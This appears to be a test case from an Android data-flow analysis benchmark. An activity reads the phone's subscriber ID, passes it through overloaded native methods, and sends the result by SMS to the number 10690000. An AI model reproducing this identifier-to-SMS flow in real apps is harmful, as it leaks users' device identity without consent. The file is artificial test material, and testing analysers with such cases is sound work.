// about       Two native overloads; the one for an Object, told by its signature in the symbol, gives a text back.
// clean       -
// native      OverloadMangled_clean.c
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    // The static type picks the overload.
    Object value = phone.getSubscriberId();
    String text = Codec.code(value);
    SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
  }
}

class Codec {
  static {
    System.loadLibrary("OverloadMangled_clean");
  }

  static native String code(String value);

  static native String code(Object value);
}
